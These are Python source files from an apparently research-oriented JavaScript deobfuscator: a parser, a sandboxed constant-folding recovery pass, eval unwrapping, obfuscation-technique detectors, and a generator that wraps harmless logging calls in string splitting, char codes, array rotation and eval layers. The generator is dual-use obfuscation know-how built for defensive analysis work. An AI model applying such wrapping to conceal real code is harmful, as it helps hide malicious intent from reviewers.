        node = self.parse_binary(level + 1)
        while self._at_punct(*operators):
            operator = self._next().text
            right = self.parse_binary(level + 1)
            node = N.BinaryExpression(
                node.start, right.end, operator, node, right
            )
        return node

    def parse_unary(self) -> N.JsNode:
        token = self._peek()
        if token is not None and (
            (token.type is JsTokenType.PUNCT and token.text in ("-", "+", "!"))
            or (token.type is JsTokenType.KEYWORD and token.text == "typeof")
        ):
            self._next()
            operand = self.parse_unary()
            return N.UnaryExpression(
                token.start, operand.end, token.text, operand
            )
        return self.parse_postfix()

    def parse_postfix(self) -> N.JsNode:
        node = self.parse_primary()
        while True:
            if self._at_punct("."):
                self._next()
                name = self._next()
                if name.type not in (JsTokenType.IDENT, JsTokenType.KEYWORD):
                    raise JsParseError(
                        f"expected property name at offset {name.start}"
                    )
                node = N.MemberExpression(
                    node.start, name.end, node, property_=name.text
                )
            elif self._at_punct("["):
                self._next()
                index = self.parse_assignment()
                close = self._expect_punct("]")
                node = N.MemberExpression(
                    node.start, close.end, node, index=index, computed=True
                )
            elif self._at_punct("("):
                self._next()
                arguments: List[N.JsNode] = []
                if not self._at_punct(")"):
                    while True:
                        arguments.append(self.parse_assignment())
                        if not self._at_punct(","):
                            break
                        self._next()
                close = self._expect_punct(")")
                node = N.CallExpression(
                    node.start, close.end, node, arguments
                )
            else:
                return node

    def parse_primary(self) -> N.JsNode:
        token = self._peek()
        if token is None:
            raise JsParseError("unexpected end of input")
        if token.type is JsTokenType.STRING:
            self._next()
            return N.StringLiteral(token.start, token.end, token.value)
        if token.type is JsTokenType.NUMBER:
            self._next()
            return N.NumberLiteral(token.start, token.end, token.value)
        if token.type is JsTokenType.IDENT:
            self._next()
            return N.Identifier(token.start, token.end, token.value)
        if token.type is JsTokenType.KEYWORD and token.text in (
            "true", "false", "null", "undefined"
        ):
            # Value keywords surface as identifiers; the evaluator maps
            # them to constants, and the recoverable predicate skips
            # them the same way it skips every other bare identifier.
            self._next()
            return N.Identifier(token.start, token.end, token.value)
        if token.type is JsTokenType.PUNCT and token.text == "(":
            self._next()
            inner = self.parse_assignment()
            close = self._expect_punct(")")
            return N.ParenExpression(token.start, close.end, inner)
        if token.type is JsTokenType.PUNCT and token.text == "[":
            self._next()
            elements: List[N.JsNode] = []
            if not self._at_punct("]"):
                while True:
                    elements.append(self.parse_assignment())
                    if not self._at_punct(","):
                        break
                    self._next()
            close = self._expect_punct("]")
            return N.ArrayLiteral(token.start, close.end, elements)
        raise JsParseError(
            f"unexpected token {token.text!r} at offset {token.start}"
        )


def parse(source: str) -> N.Program:
    """Parse *source*; raises :class:`JsLexError`/:class:`JsParseError`."""
    parser = _Parser(source, tokenize(source))
    return parser.parse_program()


def parse_cached(source: str) -> N.Program:
    """Parse through the salted process-wide cache.  Cached trees are
    shared — treat them as read-only."""
    return _parse_cache.get_or_build(_CACHE_SALT, source, parse)


def try_parse(source: str) -> Tuple[Optional[N.Program], Optional[str]]:
    """``(ast, None)`` or ``(None, error_message)``."""
    try:
        return parse_cached(source), None
    except (JsLexError, JsParseError) as exc:
        return None, str(exc)


def clear_parse_cache() -> None:
    _parse_cache.clear()


def parse_cache_info() -> Tuple[int, int, int]:
    """``(entries, hits, misses)`` — for cache-salting tests."""
    return len(_parse_cache), _parse_cache.hits, _parse_cache.misses
