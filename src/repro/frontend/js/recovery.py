"""Bottom-up recovery, unwrapping, and post-processing for JavaScript.

The JS instantiation of the paper's Section III-B/III-C machinery,
shaped like the PowerShell passes it mirrors:

- :class:`JsAstDeobfuscator` — variable tracing plus bottom-up piece
  recovery with in-place splicing on byte-precise extents, reporting
  through the same :class:`~repro.obs.stats.PipelineStats` fields and
  :class:`~repro.runtime.memo.SubtreeMemo` as the PowerShell recovery
  engine;
- :func:`unwrap_js_layers` — the multilayer phase: top-level
  ``eval('<literal>')`` statements replaced by their payload;
- :func:`rename_js_identifiers` / :func:`reformat_js` — Section III-C
  post-processing (``_0x1a2b`` → ``var0``, canonical token spacing);
- :func:`tag_js_techniques` — the per-language technique vocabulary.
"""

import re
from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.frontend.js import ast_nodes as N
from repro.frontend.js.errors import JsEvalError
from repro.frontend.js.evaluator import JsEvaluator, js_number_text
from repro.frontend.js.lexer import JsToken, JsTokenType, try_tokenize
from repro.frontend.js.parser import try_parse
from repro.runtime.errors import EvaluationError, StepLimitError
from repro.runtime.limits import ExecutionBudget

# Default per-piece budget: matches the PowerShell engine's
# PIECE_STEP_LIMIT so one policy means one budget in both languages.
PIECE_STEP_LIMIT = 50_000

# A binding whose value recovery could not establish.  Distinct from
# "absent": an absent name is an input we never saw assigned, a
# poisoned one was assigned something outside the pure subset.
_POISONED = object()


def quote_js_string(text: str) -> str:
    """Render *text* as a JS single-quoted literal."""
    escaped = (
        text.replace("\\", "\\\\")
        .replace("'", "\\'")
        .replace("\n", "\\n")
        .replace("\r", "\\r")
        .replace("\t", "\\t")
    )
    return "'" + escaped + "'"


def stringify_js_result(value: Any) -> Optional[str]:
    """The string form of a recovered JS value, or None to keep.

    Same contract as the PowerShell ``stringify_result``: only strings
    and numbers have a faithful literal in replacement position.
    Booleans, arrays, ``null``/``undefined`` keep the original piece.
    """
    if isinstance(value, bool):
        return None
    if isinstance(value, (int, float)):
        return js_number_text(value)
    if isinstance(value, str):
        if any(ord(ch) < 9 for ch in value):
            return None  # control garbage: likely a decode gone wrong
        return quote_js_string(value)
    return None


class JsAstDeobfuscator:
    """One bottom-up recovery pass over a JS script.

    Statements are traced in order: constant ``var``/``let``/``const``
    initializers and plain reassignments feed a symbol table (the
    paper's Algorithm 1 for this grammar — including the pure
    ``slice``/``concat`` rotation idiom, which is just an assignment
    whose right-hand side folds to an array).  Within every statement,
    *maximal* recoverable subtrees that fold to a string or number are
    spliced in place; a failed fold recurses into the children so inner
    constants still collapse.
    """

    def __init__(
        self,
        step_limit: Optional[int] = None,
        policy: Any = None,
        memo: Any = None,
        audit: Any = None,
        stats: Any = None,
        language: str = "js",
    ):
        from repro.policy import resolve_policy

        self.policy = resolve_policy(policy) if policy is not None else None
        if step_limit is None:
            piece_limit = (
                self.policy.piece_step_limit
                if self.policy is not None else None
            )
            step_limit = (
                piece_limit if piece_limit is not None else PIECE_STEP_LIMIT
            )
        self.step_limit = step_limit
        self.memo = memo
        self.audit = audit
        self.stats = stats
        self.language = language

    # -- entry point -------------------------------------------------------

    def process(self, script: str) -> str:
        ast, error = try_parse(script)
        if ast is None:
            return script
        self.source = script
        self.environment: Dict[str, Any] = {}
        replacements: List[Tuple[int, int, str]] = []
        for statement in ast.body:
            self._process_statement(statement, replacements)
        if not replacements:
            return script
        result = script
        for start, end, text in sorted(replacements, reverse=True):
            result = result[:start] + text + result[end:]
        return result

    # -- statement tracing -------------------------------------------------

    def _process_statement(
        self, statement: N.JsNode, replacements: List[Tuple[int, int, str]]
    ) -> None:
        if isinstance(statement, N.Program):
            # A comma declaration list: trace each declarator in order.
            for child in statement.body:
                self._process_statement(child, replacements)
            return
        if isinstance(statement, N.VariableDeclaration):
            if statement.init is None:
                self._bind(statement.name, _POISONED)
                return
            self._fold(statement.init, replacements)
            self._bind(statement.name, self._trace_value(statement.init))
            return
        if isinstance(statement, N.ExpressionStatement):
            expression = statement.expression
            if isinstance(expression, N.AssignmentExpression) and isinstance(
                expression.target, N.Identifier
            ):
                self._fold(expression.value, replacements)
                self._bind(
                    expression.target.name,
                    self._trace_value(expression.value),
                )
                return
            self._fold(expression, replacements)
            return
        self._fold(statement, replacements)

    def _bind(self, name: str, value: Any) -> None:
        if value is _POISONED:
            self.environment.pop(name, None)
            self.environment[name] = _POISONED
        else:
            self.environment[name] = value
        if self.stats is not None:
            self.stats.variables_traced += 1

    def _trace_value(self, node: N.JsNode) -> Any:
        """The constant value of an initializer, or ``_POISONED``."""
        evaluator = self._make_evaluator()
        try:
            value = evaluator.evaluate(node)
        except (JsEvalError, EvaluationError, StepLimitError):
            value = _POISONED
        finally:
            self._account(evaluator.budget)
        return value

    def _evaluation_environment(self) -> Dict[str, Any]:
        return {
            name: value
            for name, value in self.environment.items()
            if value is not _POISONED
        }

    def _make_evaluator(self) -> JsEvaluator:
        if self.policy is not None:
            budget = ExecutionBudget.from_policy(
                self.policy, step_limit=self.step_limit
            )
        else:
            budget = ExecutionBudget(step_limit=self.step_limit)
        return JsEvaluator(
            environment=self._evaluation_environment(), budget=budget
        )

    def _account(self, budget: ExecutionBudget) -> None:
        if self.stats is not None:
            self.stats.evaluator_steps += budget.steps
        if self.audit is not None:
            self.audit.add_budget(budget)

    # -- piece recovery ----------------------------------------------------

    def _fold(
        self, node: N.JsNode, replacements: List[Tuple[int, int, str]]
    ) -> None:
        """Splice the *maximal* foldable subtree rooted at *node*, or
        recurse into the children when the root cannot fold."""
        if isinstance(node, N.RECOVERABLE_NODE_TYPES):
            text = self._attempt(node)
            if text is not None:
                if text != self.source[node.start:node.end]:
                    replacements.append((node.start, node.end, text))
                return
        for child in node.children():
            self._fold(child, replacements)

    def _attempt(self, node: N.JsNode) -> Optional[str]:
        """Recover one piece; returns the replacement literal or None."""
        piece = self.source[node.start:node.end]
        memo = self.memo
        key = None
        if memo is not None:
            key = memo.make_key(
                piece,
                self._memo_bindings(),
                None,
                None,
                salt=(self._policy_token(), self.step_limit, self.language),
            )
            if key is not None:
                cached = memo.get(key)
                if cached is not None:
                    ok, value, reason, steps = cached
                    self._record(reason, steps)
                    if not ok:
                        return None
                    return stringify_js_result(value)
        evaluator = self._make_evaluator()
        ok, value, reason = True, None, "recovered"
        try:
            value = evaluator.evaluate(node)
        except StepLimitError:
            ok, reason = False, "step_limit"
        except (JsEvalError, EvaluationError):
            ok, reason = False, "unsupported"
        finally:
            self._account(evaluator.budget)
        text = stringify_js_result(value) if ok else None
        if ok and text is None:
            reason = "not_stringifiable"
        if key is not None:
            memo.put(key, ok, value, reason, evaluator.budget.steps)
        self._record(reason, evaluator.budget.steps, fresh=True)
        return text

    def _memo_bindings(self) -> Dict[str, Any]:
        # Non-scalar bindings (arrays) make make_key return None, which
        # simply skips memoization for pieces referencing them.
        return self._evaluation_environment()

    def _policy_token(self) -> str:
        return self.policy.cache_token if self.policy is not None else ""

    def _record(self, reason: str, steps: int, fresh: bool = False) -> None:
        stats = self.stats
        if stats is None:
            return
        stats.recovery_outcomes[reason] = (
            stats.recovery_outcomes.get(reason, 0) + 1
        )
        if not fresh:
            # Memo replay: steps were accounted when first computed and
            # are replayed here for per-run determinism.
            stats.evaluator_steps += steps
        if reason == "recovered":
            stats.pieces_recovered += 1


# -- multilayer -------------------------------------------------------------


def unwrap_js_layers(script: str):
    """Replace every top-level ``eval('<literal>')`` statement with its
    payload.  Returns ``(script, count, kinds)`` matching the shape of
    the PowerShell ``unwrap_layers_detailed`` result."""
    from repro.frontend.base import UnwrapOutcome

    ast, _ = try_parse(script)
    if ast is None:
        return UnwrapOutcome(script)
    replacements: List[Tuple[int, int, str]] = []
    for statement in ast.body:
        if not isinstance(statement, N.ExpressionStatement):
            continue
        expression = statement.expression
        if isinstance(expression, N.ParenExpression):
            expression = expression.expression
        if not isinstance(expression, N.CallExpression):
            continue
        callee = expression.callee
        if not (isinstance(callee, N.Identifier) and callee.name == "eval"):
            continue
        if len(expression.arguments) != 1:
            continue
        payload = expression.arguments[0]
        if not isinstance(payload, N.StringLiteral):
            continue
        replacements.append((statement.start, statement.end, payload.value))
    if not replacements:
        return UnwrapOutcome(script)
    result = script
    for start, end, text in sorted(replacements, reverse=True):
        result = result[:start] + text + result[end:]
    return UnwrapOutcome(
        result, count=len(replacements), kinds={"eval": len(replacements)}
    )


# -- post-processing --------------------------------------------------------

# The hex-name convention of javascript-obfuscator and friends.
_OBFUSCATED_NAME = re.compile(r"^_0x[0-9a-fA-F]+$")


def rename_js_identifiers(script: str) -> str:
    """Rename ``_0x1a2b``-style identifiers to ``var0``, ``var1``, ...
    in first-appearance order (the JS half of Section III-C renaming)."""
    tokens, error = try_tokenize(script)
    if tokens is None:
        return script
    mapping: Dict[str, str] = {}
    counter = 0
    replacements: List[Tuple[int, int, str]] = []
    for token in tokens:
        if token.type is not JsTokenType.IDENT:
            continue
        if not _OBFUSCATED_NAME.match(token.text):
            continue
        if token.text not in mapping:
            while f"var{counter}" in script:
                counter += 1
            mapping[token.text] = f"var{counter}"
            counter += 1
        replacements.append((token.start, token.end, mapping[token.text]))
    result = script
    for start, end, text in sorted(replacements, reverse=True):
        result = result[:start] + text + result[end:]
    return result


def _needs_space(previous: JsToken, current: JsToken) -> bool:
    prev_text, text = previous.text, current.text
    if text in (";", ",", ")", "]", "."):
        return False
    if prev_text in ("(", "[", "."):
        return False
    if text == "(":
        # Tight after a callee (identifier/index/call result), spaced
        # after keywords and operators.
        return not (
            previous.type in (JsTokenType.IDENT, JsTokenType.STRING)
            or prev_text in (")", "]")
        )
    if text == "[":
        # Tight when indexing, spaced when an array literal follows an
        # operator or keyword.
        return not (
            previous.type in (JsTokenType.IDENT, JsTokenType.STRING)
            or prev_text in (")", "]")
        )
    return True


def reformat_js(script: str) -> str:
    """Canonical layout: one statement per line, one space between
    tokens except around brackets/terminators.  Returns the input
    unchanged when it does not parse."""
    ast, _ = try_parse(script)
    if ast is None or not ast.body:
        return script
    tokens, error = try_tokenize(script)
    if tokens is None:
        return script
    lines: List[str] = []
    for statement in ast.body:
        parts: List[str] = []
        previous: Optional[JsToken] = None
        for token in tokens:
            if token.start < statement.start or token.end > statement.end:
                continue
            if previous is not None and _needs_space(previous, token):
                parts.append(" ")
            parts.append(token.text)
            previous = token
        line = "".join(parts)
        if not line.endswith(";"):
            line += ";"
        lines.append(line)
    return "\n".join(lines)


# -- technique telemetry ----------------------------------------------------

# The JS technique vocabulary (the front end's Table I column).
JS_DETECTORS: Dict[str, Any] = {
    "js_string_concat": re.compile(
        r"""['"][^'"\n]*['"]\s*\+\s*['"]"""
    ),
    "js_array_rotation": re.compile(
        r"\.slice\(\s*\d+\s*\)\s*\.concat\("
    ),
    "js_eval": re.compile(r"\beval\s*\("),
    "js_char_codes": re.compile(r"fromCharCode\s*\("),
    "js_base64": re.compile(r"\batob\s*\("),
}


def tag_js_techniques(
    original: str,
    layers: Sequence[str] = (),
    unwrap_kinds: Optional[Dict[str, int]] = None,
) -> Dict[str, int]:
    """Tag one JS run: detector hits on the original plus every exposed
    layer, and ``layer_*`` tags for unwrap kinds that fired — the same
    contract as the PowerShell ``tag_techniques``."""
    tags: Dict[str, int] = {}
    for text in (original, *layers):
        for name, pattern in JS_DETECTORS.items():
            if name not in tags and pattern.search(text):
                tags[name] = 1
    for kind, count in (unwrap_kinds or {}).items():
        if count > 0:
            tags[f"layer_{kind}"] = 1
    return tags
