"""Minimal JavaScript front end.

A second concrete language behind the :class:`~repro.frontend.base.
Frontend` interface, covering the obfuscation subset the JS literature
("From Obfuscated to Obvious", CASCADE — see PAPERS.md) treats as the
bread and butter of commodity obfuscators:

- **string concatenation**: ``'al' + 'e' + 'rt'`` chains folded to one
  literal;
- **array rotation**: a string table assigned to a variable, rotated
  with pure ``slice``/``concat`` idioms, and dereferenced by constant
  index — uses resolve through variable tracing;
- **eval unwrapping**: ``eval('<script>')`` layers replaced by their
  (recovered) payload, iterated to a fixpoint by the shared pipeline.

The implementation mirrors the PowerShell front end's architecture at
a fraction of the surface: a lexer and recursive-descent parser with
byte-precise extents (:mod:`repro.frontend.js.parser`), a sandboxed
constant evaluator honoring :class:`~repro.policy.SandboxPolicy`
budgets through the shared :class:`~repro.runtime.limits.
ExecutionBudget` (:mod:`repro.frontend.js.evaluator`), a bottom-up
recovery pass with in-place splicing (:mod:`repro.frontend.js.
recovery`), and generator skeletons for corpus building
(:mod:`repro.frontend.js.generator`).
"""

from repro.frontend.js.frontend import JavaScriptFrontend

__all__ = ["JavaScriptFrontend"]
