"""Seeded generator skeletons for obfuscated JavaScript samples.

The JS counterpart of :mod:`repro.dataset.generator`, scoped to the
front end's subset: a clean ``console.log``-based payload is pushed
through a randomized stack of string concatenation, char-code
encoding, array rotation, and ``eval`` wrapping, with the clean script
kept as ground truth.
"""

import random
from dataclasses import dataclass, field
from typing import List, Set

from repro.frontend.js.recovery import quote_js_string

_MESSAGES = (
    "hello world",
    "stage two payload",
    "beacon checkin",
    "download complete",
    "update config",
    "persistence installed",
)

_SINKS = ("console.log", "alert", "document.write")


@dataclass
class JsSample:
    """One generated JS sample with ground truth."""

    identifier: str
    script: str
    clean_script: str
    techniques: Set[str] = field(default_factory=set)
    layers: int = 0


def _concat_split(text: str, rng: random.Random) -> str:
    """Render *text* as a 2-4 chunk concatenation expression."""
    if len(text) < 2:
        return quote_js_string(text)
    pieces = max(2, min(4, rng.randint(2, 4), len(text)))
    cuts = sorted(rng.sample(range(1, len(text)), pieces - 1))
    chunks, previous = [], 0
    for cut in (*cuts, len(text)):
        chunks.append(quote_js_string(text[previous:cut]))
        previous = cut
    return " + ".join(chunks)


def _char_codes(text: str) -> str:
    codes = ", ".join(str(ord(ch)) for ch in text)
    return f"String.fromCharCode({codes})"


def _rotate_table(
    messages: List[str], sink: str, rng: random.Random
) -> str:
    """The array-rotation idiom: a rotated string table dereferenced by
    constant index (pure ``slice``/``concat`` spelling)."""
    table = f"_0x{rng.randrange(16**4):04x}"
    rotation = rng.randint(1, len(messages) - 1) if len(messages) > 1 else 0
    # Store the table pre-rotated; the script rotates it back.
    stored = messages[-rotation:] + messages[:-rotation] if rotation else (
        list(messages)
    )
    lines = [
        f"var {table} = [{', '.join(quote_js_string(m) for m in stored)}];",
    ]
    if rotation:
        lines.append(
            f"{table} = {table}.slice({rotation})"
            f".concat({table}.slice(0, {rotation}));"
        )
    for index in range(len(messages)):
        lines.append(f"{sink}({table}[{index}]);")
    return "\n".join(lines)


def _eval_wrap(script: str) -> str:
    return f"eval({quote_js_string(script)});"


def generate_js_corpus(count: int = 10, seed: int = 0) -> List[JsSample]:
    """Generate *count* obfuscated samples with clean ground truth."""
    rng = random.Random(seed)
    samples: List[JsSample] = []
    for index in range(count):
        sink = rng.choice(_SINKS)
        techniques: Set[str] = set()
        shape = rng.random()
        if shape < 0.4:
            message = rng.choice(_MESSAGES)
            clean = f"{sink}({quote_js_string(message)});"
            encoder = rng.random()
            if encoder < 0.6:
                body = f"{sink}({_concat_split(message, rng)});"
                techniques.add("js_string_concat")
            else:
                body = f"{sink}({_char_codes(message)});"
                techniques.add("js_char_codes")
        else:
            messages = rng.sample(_MESSAGES, rng.randint(2, 3))
            clean = "\n".join(
                f"{sink}({quote_js_string(m)});" for m in messages
            )
            body = _rotate_table(messages, sink, rng)
            techniques.add("js_array_rotation")
        layers = 0
        while rng.random() < 0.5 and layers < 2:
            body = _eval_wrap(body)
            techniques.add("js_eval")
            layers += 1
        samples.append(JsSample(
            identifier=f"js-{seed}-{index:04d}",
            script=body,
            clean_script=clean,
            techniques=techniques,
            layers=layers,
        ))
    return samples
