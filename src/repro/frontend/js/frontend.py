"""The JavaScript front end registry entry."""

from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.frontend.base import (
    Frontend,
    FrontendCapabilities,
    UnwrapOutcome,
)


class JavaScriptFrontend(Frontend):
    """Minimal JS deobfuscation: string concat, array rotation, eval."""

    id = "js"
    name = "JavaScript"
    aliases = ("javascript", "ecmascript")
    file_extensions = (".js", ".mjs")
    capabilities = FrontendCapabilities(
        recovery=True,
        verify=True,
        generator=True,
        rename=True,
        reformat=True,
        multilayer=True,
    )

    # -- parsing -----------------------------------------------------------

    def try_parse(self, source: str) -> Tuple[Optional[Any], Optional[str]]:
        from repro.frontend.js.parser import try_parse

        return try_parse(source)

    def tokenize(self, source: str) -> Sequence[Any]:
        from repro.frontend.js.lexer import tokenize

        return tokenize(source)

    # -- pipeline phases ---------------------------------------------------

    # token_pass: inherited no-op — the subset has no token-level
    # normalization (no ticks, no case-insensitive keywords).

    def ast_pass(
        self,
        script: str,
        *,
        options: Any,
        policy: Any,
        memo: Any = None,
        audit: Any = None,
        stats: Any = None,
    ) -> str:
        from repro.frontend.js.recovery import JsAstDeobfuscator

        engine = JsAstDeobfuscator(
            step_limit=options.piece_step_limit,
            policy=policy,
            memo=memo,
            audit=audit,
            stats=stats,
            language=self.id,
        )
        return engine.process(script)

    def unwrap_layers(self, script: str) -> UnwrapOutcome:
        from repro.frontend.js.recovery import unwrap_js_layers

        return unwrap_js_layers(script)

    def rename(self, script: str) -> str:
        from repro.frontend.js.recovery import rename_js_identifiers

        return rename_js_identifiers(script)

    def reformat(self, script: str) -> str:
        from repro.frontend.js.recovery import reformat_js

        return reformat_js(script)

    # -- telemetry ---------------------------------------------------------

    def tag_techniques(
        self,
        original: str,
        layers: Sequence[str] = (),
        unwrap_kinds: Optional[Dict[str, int]] = None,
    ) -> Dict[str, int]:
        from repro.frontend.js.recovery import tag_js_techniques

        return tag_js_techniques(
            original, layers=layers, unwrap_kinds=unwrap_kinds
        )

    # -- verification ------------------------------------------------------

    def verify(
        self,
        result: Any,
        step_limit: Optional[int] = None,
        policy: Any = None,
    ) -> Any:
        from repro.frontend.js.runner import (
            DEFAULT_STEP_LIMIT,
            verify_js_result,
        )

        if step_limit is None:
            step_limit = DEFAULT_STEP_LIMIT
        return verify_js_result(
            result, step_limit=step_limit, policy=policy
        )

    # -- generation --------------------------------------------------------

    def generate_samples(self, count: int = 10, seed: int = 0) -> List[Any]:
        from repro.frontend.js.generator import generate_js_corpus

        return generate_js_corpus(count=count, seed=seed)
