"""AST node taxonomy for the JavaScript subset.

Every node carries byte-precise ``start``/``end`` extents into the
source — the property the whole reconstruction approach rests on: a
recovered piece is spliced back onto exactly its own extent, so
identical text in different contexts stays independent.

The taxonomy is deliberately tiny (the front end's subset, not
ECMAScript): literals, identifiers, arrays, member access, calls,
binary/unary arithmetic, assignments, variable declarations, and a
program of statements.  ``RECOVERABLE_NODE_TYPES`` plays the same role
as its :mod:`repro.pslang.ast_nodes` namesake — the recoverable-node
predicate of the paper, instantiated for JavaScript.
"""

from typing import Iterator, List, Optional, Tuple


class JsNode:
    """Base node: extents plus uniform child traversal."""

    __slots__ = ("start", "end", "parent")

    def __init__(self, start: int, end: int):
        self.start = start
        self.end = end
        self.parent: Optional["JsNode"] = None

    @property
    def type_name(self) -> str:
        return type(self).__name__

    def children(self) -> Tuple["JsNode", ...]:
        return ()

    def link_parents(self) -> None:
        for child in self.children():
            child.parent = self
            child.link_parents()

    def walk_post_order(self) -> Iterator["JsNode"]:
        for child in self.children():
            yield from child.walk_post_order()
        yield self

    def walk_pre_order(self) -> Iterator["JsNode"]:
        yield self
        for child in self.children():
            yield from child.walk_pre_order()


class Program(JsNode):
    __slots__ = ("body",)

    def __init__(self, start: int, end: int, body: List[JsNode]):
        super().__init__(start, end)
        self.body = body

    def children(self) -> Tuple[JsNode, ...]:
        return tuple(self.body)


class ExpressionStatement(JsNode):
    __slots__ = ("expression",)

    def __init__(self, start: int, end: int, expression: JsNode):
        super().__init__(start, end)
        self.expression = expression

    def children(self) -> Tuple[JsNode, ...]:
        return (self.expression,)


class VariableDeclaration(JsNode):
    """``var|let|const name = init`` (one declarator per node; comma
    lists parse into sibling declarations sharing the keyword)."""

    __slots__ = ("kind", "name", "init")

    def __init__(
        self,
        start: int,
        end: int,
        kind: str,
        name: str,
        init: Optional[JsNode],
    ):
        super().__init__(start, end)
        self.kind = kind
        self.name = name
        self.init = init

    def children(self) -> Tuple[JsNode, ...]:
        return (self.init,) if self.init is not None else ()


class AssignmentExpression(JsNode):
    """``target = value`` (plain ``=`` only)."""

    __slots__ = ("target", "value")

    def __init__(self, start: int, end: int, target: JsNode, value: JsNode):
        super().__init__(start, end)
        self.target = target
        self.value = value

    def children(self) -> Tuple[JsNode, ...]:
        return (self.target, self.value)


class Identifier(JsNode):
    __slots__ = ("name",)

    def __init__(self, start: int, end: int, name: str):
        super().__init__(start, end)
        self.name = name


class StringLiteral(JsNode):
    __slots__ = ("value",)

    def __init__(self, start: int, end: int, value: str):
        super().__init__(start, end)
        self.value = value


class NumberLiteral(JsNode):
    __slots__ = ("value",)

    def __init__(self, start: int, end: int, value):
        super().__init__(start, end)
        self.value = value


class ArrayLiteral(JsNode):
    __slots__ = ("elements",)

    def __init__(self, start: int, end: int, elements: List[JsNode]):
        super().__init__(start, end)
        self.elements = elements

    def children(self) -> Tuple[JsNode, ...]:
        return tuple(self.elements)


class MemberExpression(JsNode):
    """``obj.prop`` (computed=False) or ``obj[expr]`` (computed=True).
    For dot access ``property`` is the name string; for computed access
    ``index`` is the expression node."""

    __slots__ = ("object", "property", "index", "computed")

    def __init__(
        self,
        start: int,
        end: int,
        object_: JsNode,
        property_: Optional[str] = None,
        index: Optional[JsNode] = None,
        computed: bool = False,
    ):
        super().__init__(start, end)
        self.object = object_
        self.property = property_
        self.index = index
        self.computed = computed

    def children(self) -> Tuple[JsNode, ...]:
        if self.computed and self.index is not None:
            return (self.object, self.index)
        return (self.object,)


class CallExpression(JsNode):
    __slots__ = ("callee", "arguments")

    def __init__(
        self, start: int, end: int, callee: JsNode, arguments: List[JsNode]
    ):
        super().__init__(start, end)
        self.callee = callee
        self.arguments = arguments

    def children(self) -> Tuple[JsNode, ...]:
        return (self.callee, *self.arguments)


class BinaryExpression(JsNode):
    __slots__ = ("operator", "left", "right")

    def __init__(
        self, start: int, end: int, operator: str, left: JsNode, right: JsNode
    ):
        super().__init__(start, end)
        self.operator = operator
        self.left = left
        self.right = right

    def children(self) -> Tuple[JsNode, ...]:
        return (self.left, self.right)


class UnaryExpression(JsNode):
    __slots__ = ("operator", "operand")

    def __init__(self, start: int, end: int, operator: str, operand: JsNode):
        super().__init__(start, end)
        self.operator = operator
        self.operand = operand

    def children(self) -> Tuple[JsNode, ...]:
        return (self.operand,)


class ParenExpression(JsNode):
    __slots__ = ("expression",)

    def __init__(self, start: int, end: int, expression: JsNode):
        super().__init__(start, end)
        self.expression = expression

    def children(self) -> Tuple[JsNode, ...]:
        return (self.expression,)


# The recoverable-node predicate for JavaScript: nodes whose (already
# child-recovered) text is offered to the sandboxed evaluator.  Bare
# literals and identifiers are excluded the same way the PowerShell
# predicate excludes them — nothing to recover.
RECOVERABLE_NODE_TYPES = (
    BinaryExpression,
    CallExpression,
    MemberExpression,
    ParenExpression,
    UnaryExpression,
)
