"""Tokenizer for the JavaScript subset.

Flat scan with byte-precise extents, mirroring the role of
:mod:`repro.pslang.tokenizer` for PowerShell.  Comments and whitespace
are skipped (reformatting re-emits from tokens, so they are trivia
here); string escapes are decoded into the token's ``value`` while the
raw extent keeps the original spelling for in-place splicing.
"""

from dataclasses import dataclass
from enum import Enum
from typing import List, Optional, Tuple

from repro.frontend.js.errors import JsLexError

KEYWORDS = frozenset(
    (
        "var", "let", "const", "function", "return", "new", "typeof",
        "true", "false", "null", "undefined", "if", "else", "while",
        "for", "in", "of",
    )
)

# Longest first so the scanner never splits '===' into '==' + '='.
PUNCTUATORS = (
    "===", "!==", "==", "!=", "<=", ">=", "&&", "||", "++", "--",
    "+=", "-=", "*=", "/=", "%=",
    "(", ")", "[", "]", "{", "}", ",", ";", ".", "+", "-", "*", "/",
    "%", "=", "<", ">", "!", "?", ":",
)


class JsTokenType(Enum):
    STRING = "string"
    NUMBER = "number"
    IDENT = "ident"
    KEYWORD = "keyword"
    PUNCT = "punct"


@dataclass(frozen=True)
class JsToken:
    type: JsTokenType
    text: str          # raw source spelling
    value: object      # decoded value (str for STRING, number for NUMBER)
    start: int
    end: int


_ESCAPES = {
    "n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f", "v": "\v",
    "0": "\0", "'": "'", '"': '"', "\\": "\\", "`": "`", "/": "/",
}


def _scan_string(source: str, pos: int) -> Tuple[str, int]:
    """Decode a quoted string starting at *pos*; returns (value, end)."""
    quote = source[pos]
    index = pos + 1
    out: List[str] = []
    while index < len(source):
        ch = source[index]
        if ch == quote:
            return "".join(out), index + 1
        if ch == "\n":
            break
        if ch == "\\":
            if index + 1 >= len(source):
                break
            esc = source[index + 1]
            if esc == "x" and index + 3 < len(source):
                try:
                    out.append(chr(int(source[index + 2:index + 4], 16)))
                    index += 4
                    continue
                except ValueError:
                    raise JsLexError(
                        f"bad \\x escape at offset {index}"
                    ) from None
            if esc == "u" and index + 5 < len(source):
                try:
                    out.append(chr(int(source[index + 2:index + 6], 16)))
                    index += 6
                    continue
                except ValueError:
                    raise JsLexError(
                        f"bad \\u escape at offset {index}"
                    ) from None
            out.append(_ESCAPES.get(esc, esc))
            index += 2
            continue
        out.append(ch)
        index += 1
    raise JsLexError(f"unterminated string starting at offset {pos}")


def _scan_number(source: str, pos: int):
    """Returns ``(value, end)`` for a numeric literal at *pos*."""
    index = pos
    if source.startswith(("0x", "0X"), pos):
        index = pos + 2
        while index < len(source) and source[index] in "0123456789abcdefABCDEF":
            index += 1
        if index == pos + 2:
            raise JsLexError(f"bad hex literal at offset {pos}")
        return int(source[pos:index], 16), index
    seen_dot = False
    while index < len(source):
        ch = source[index]
        if ch == "." and not seen_dot:
            seen_dot = True
        elif not ch.isdigit():
            break
        index += 1
    text = source[pos:index]
    if text in (".", ""):
        raise JsLexError(f"bad number at offset {pos}")
    return (float(text) if seen_dot else int(text)), index


def _ident_start(ch: str) -> bool:
    return ch.isalpha() or ch in "_$"


def _ident_part(ch: str) -> bool:
    return ch.isalnum() or ch in "_$"


def tokenize(source: str) -> List[JsToken]:
    """The full token list; raises :class:`JsLexError` on bad input."""
    tokens: List[JsToken] = []
    pos = 0
    length = len(source)
    while pos < length:
        ch = source[pos]
        if ch.isspace():
            pos += 1
            continue
        if source.startswith("//", pos):
            newline = source.find("\n", pos)
            pos = length if newline < 0 else newline + 1
            continue
        if source.startswith("/*", pos):
            close = source.find("*/", pos + 2)
